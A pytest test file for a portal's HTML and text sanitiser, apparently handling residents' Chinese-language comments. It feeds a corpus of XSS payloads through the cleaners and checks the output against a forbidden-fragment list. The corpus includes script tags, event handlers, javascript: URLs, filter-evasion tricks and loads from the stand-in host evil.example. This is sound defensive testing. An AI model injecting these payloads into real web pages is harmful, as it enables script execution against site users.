"""portal/sanitize.py: a corpus of script and markup injections comes out inert, as plain text and as HTML."""

import re

import pytest
from jinja2 import Environment
from markupsafe import Markup

from portal.sanitize import clean_html, clean_text, plain

# Payloads residents (or attackers) type into free-text fields.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">点我</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><iframe src=https://evil.example>',
    '\'><iframe srcdoc="<script>alert(1)</script>">',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "javascript&colon;alert(1)",
    "<body onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>x</script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//--><script>alert(2)</script>",
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "我反对在此处建厂<script>alert('环评')</script>，理由如下：<b>噪声</b>超标。",
]
# What must never survive in the output, compared case-insensitively.
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "<iframe",
    "<svg",
    "<img",
    "<style",
    "ontoggle",
    "onfocus",
    "<object",
    "<meta",
    "<body",
)


def forbidden_in(text):
    """The forbidden fragments found in `text` (lower-cased)."""
    lowered = text.lower()
    return [f for f in FORBIDDEN if f in lowered]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_text_leaves_nothing_executable(payload):
    """Plain text of every payload has no script tag, event handler, javascript: URL, iframe or svg."""
    assert forbidden_in(clean_text(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_text_has_no_tag_a_browser_would_parse(payload):
    """Even pasted into a page unescaped, the text could not open a tag."""
    assert not re.search(r"<[A-Za-z/!?]", clean_text(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_html_leaves_nothing_executable(payload):
    """The HTML allow-list drops every payload's script, handlers, dangerous URLs and embedded frames."""
    assert forbidden_in(clean_html(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_autoescaped_rendering_stays_inert(payload):
    """Rendered by Jinja with autoescaping (text) or as Markup (clean HTML), no active markup appears."""
    environment = Environment(autoescape=True)
    page = environment.from_string("<p>{{ text }}</p><div>{{ html }}</div>").render(
        text=clean_text(payload), html=Markup(clean_html(payload))
    )
    assert forbidden_in(page) == []


def test_script_contents_are_removed_not_shown():
    """The code inside <script> and <style> does not reach the reader as text."""
    assert clean_text("前<script>alert('x')</script>后<style>p{color:red}</style>") == "前后"


def test_mixed_chinese_text_keeps_the_words():
    """A Chinese comment with markup keeps every word of the resident's text."""
    text = clean_text("我反对在此处建厂<script>alert('环评')</script>，理由如下：<b>噪声</b>超标。")
    assert text == "我反对在此处建厂，理由如下：噪声超标。"


def test_plain_characters_are_kept_as_typed():
    """Comparisons, ampersands and typed character references are shown as the resident typed them."""
    assert clean_text("PM2.5 < 35 & 噪声 > 60") == "PM2.5 < 35 & 噪声 > 60"
    assert clean_text("浓度<标准") == "浓度<标准"
    assert clean_text("javascript&colon;x") == "javascript&colon;x"


def test_entity_encoded_markup_is_not_decoded_into_tags():
    """&lt;script&gt; typed as text is removed rather than turned into a tag."""
    assert "<" not in clean_text("&lt;script&gt;alert(1)&lt;/script&gt;")


def test_whitespace_is_tidied_and_paragraphs_kept():
    """Runs of spaces and tabs collapse, Windows newlines and blank-line runs become one blank line."""
    assert (
        clean_text("  第一段\t\t有  空格  \r\n\r\n\r\n\r\n第二段\n第三行  ")
        == "第一段 有 空格\n\n第二段\n第三行"
    )


def test_invisible_direction_controls_are_removed():
    """Bidirectional overrides and zero-width spaces, which disguise text, are removed."""
    assert clean_text("abc\u202edef\u200bghi") == "abcdefghi"


def test_clean_text_of_nothing_is_empty():
    """None and markup-only input give an empty string."""
    assert clean_text(None) == ""
    assert clean_text("<p> </p>") == ""


def test_clean_html_keeps_the_allowed_structure():
    """Headings, emphasis, lists, quotes, code and tables survive; h1 and unknown tags lose their markup."""
    html = (
        "<h1>大标题</h1><h2>二</h2><p><strong>强</strong><em>斜</em></p><ul><li>一</li></ul><ol><li>二</li></ol>"
        "<blockquote>引</blockquote><pre><code>x</code></pre><table><tr><td colspan=2 style=x>格</td></tr></table>"
        "<marquee>动</marquee>"
    )
    cleaned = clean_html(html)
    for tag in (
        "<h2>",
        "<strong>",
        "<em>",
        "<ul>",
        "<ol>",
        "<li>",
        "<blockquote>",
        "<pre>",
        "<code>",
        "<table>",
        '<td colspan="2">',
    ):
        assert tag in cleaned
    assert "<h1>" not in cleaned and "<marquee>" not in cleaned and "style=" not in cleaned
    assert "大标题" in cleaned and "动" in cleaned


@pytest.mark.parametrize(
    "href", ["https://www.mee.gov.cn/", "http://example.org/a?b=1", "mailto:hb@example.org"]
)
def test_clean_html_keeps_safe_links_with_nofollow(href):
    """http, https and mailto links stay, with rel="nofollow noopener" and their title."""
    cleaned = clean_html(f'<a href="{href}" title="说明" onclick="x()" target="_blank">链接</a>')
    assert f'href="{href.replace("&", "&amp;")}"' in cleaned
    assert 'rel="nofollow noopener"' in cleaned and 'title="说明"' in cleaned
    assert "onclick" not in cleaned and "target" not in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "ftp://example.org/",
    ],
)
def test_clean_html_drops_other_link_schemes(href):
    """Any other scheme loses its href (the link text stays)."""
    cleaned = clean_html(f'<a href="{href}">链接</a>')
    assert "href" not in cleaned and "链接" in cleaned


def test_clean_html_overrides_a_given_rel():
    """A rel supplied in the input cannot weaken nofollow noopener."""
    cleaned = clean_html('<a href="https://example.org" rel="opener">x</a>')
    assert 'rel="nofollow noopener"' in cleaned and cleaned.count("rel=") == 1


def test_only_sanitize_imports_bleach():
    """bleach is imported by portal/sanitize.py and nowhere else in the portal."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "portal"
    importers = sorted(
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if re.search(r"^\s*(import bleach|from bleach)", p.read_text(encoding="utf-8"), re.M)
    )
    assert importers == ["sanitize.py"]


def test_plain_keeps_the_text_as_typed_without_control_characters():
    """`plain` keeps markup characters (they are escaped on output) but drops NUL and other controls."""
    assert plain(" a < b\x00 且 c > d\x1b\r\n ") == "a < b 且 c > d"
